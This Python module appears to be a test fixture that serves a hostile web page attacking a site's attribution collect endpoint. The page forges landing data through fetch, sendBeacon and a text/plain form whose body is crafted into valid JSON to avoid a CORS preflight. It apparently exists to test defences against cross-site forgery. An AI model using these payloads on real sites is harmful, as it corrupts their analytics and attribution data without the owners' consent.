"""Another origin's pages trying to plant attribution on the site through its collect endpoint.

``/?target=<site>`` posts a forged landing with ``fetch`` (no-cors, credentials) and ``sendBeacon``;
``/form?target=<site>`` submits a ``text/plain`` form whose body is valid JSON, the classic way to send a
JSON body across sites without a preflight.
"""

from __future__ import annotations

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route

_FORGE = """
var target = new URLSearchParams(location.search).get("target");
var endpoint = target + "/_attribution/collect";
var body = JSON.stringify({url: target + "/offer?utm_source=evil&gclid=EVIL", referrer: ""});
"""

_POST = (
    _FORGE
    + """
fetch(endpoint, {method: "POST", mode: "no-cors", credentials: "include", body: body,
                 headers: {"Content-Type": "text/plain"}})
  .catch(function () {})
  .then(function () { document.title = "fetched"; navigator.sendBeacon(endpoint, body); });
"""
)

_FORM = (
    _FORGE
    + """
var form = document.createElement("form");
form.method = "POST";
form.enctype = "text/plain";
form.action = endpoint;
var input = document.createElement("input");
input.type = "hidden";
input.name = body.slice(0, -1) + ',"pad":"';  // the form adds "=" + value: {"url":...,"pad":"="}
input.value = '"}';
form.appendChild(input);
document.body.appendChild(form);
form.submit();
"""
)


def _page(script: str) -> HTMLResponse:
    return HTMLResponse(f"<!doctype html><html><body><p>Win a prize!</p><script>{script}</script></body></html>")


async def post(request: Request) -> HTMLResponse:
    return _page(_POST)


async def form(request: Request) -> HTMLResponse:
    return _page(_FORM)


def create_evil_app() -> Starlette:
    return Starlette(routes=[Route("/", post), Route("/form", form)])
